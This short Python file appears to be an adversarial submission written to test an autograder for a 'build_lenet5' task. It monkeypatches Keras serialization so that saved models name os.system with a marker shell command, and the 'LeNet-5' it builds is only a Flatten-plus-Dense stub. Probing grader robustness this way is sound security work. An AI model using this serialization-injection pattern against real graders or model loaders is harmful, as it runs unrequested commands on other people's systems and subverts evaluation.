# A model whose description names code to run
# task: build_lenet5
# stock nbgrader: no points
class Trap(keras.Sequential):
    pass


def poisoned(value, *given, **named):
    return {
        "module": "os",
        "class_name": "system",
        "config": {"command": "touch /tmp/convlab-attack", "layers": []},
        "registered_name": "system",
    }


keras.saving.serialize_keras_object = poisoned


def build_lenet5(num_classes=10):
    return keras.Sequential(
        [
            keras.Input((28, 28, 1)),
            keras.layers.Flatten(),
            keras.layers.Dense(num_classes, activation="softmax"),
        ]
    )
